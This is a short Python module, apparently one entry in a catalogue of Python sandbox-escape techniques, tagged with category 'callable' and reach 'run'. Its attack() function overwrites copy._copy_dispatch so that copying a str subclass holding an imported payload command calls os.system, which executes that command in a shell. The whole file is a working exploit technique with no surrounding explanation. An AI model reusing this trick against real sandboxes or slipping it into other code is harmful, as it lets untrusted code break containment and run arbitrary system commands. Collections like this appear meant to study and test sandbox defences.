"""A C function is how copy copies what is of a class."""
CATEGORY = "callable"
REACH = "run"

import copy
import os

from . import payload


class Command(str):
    pass


OBJECT = Command(payload.COMMAND)


def attack():
    copy._copy_dispatch[Command] = os.system
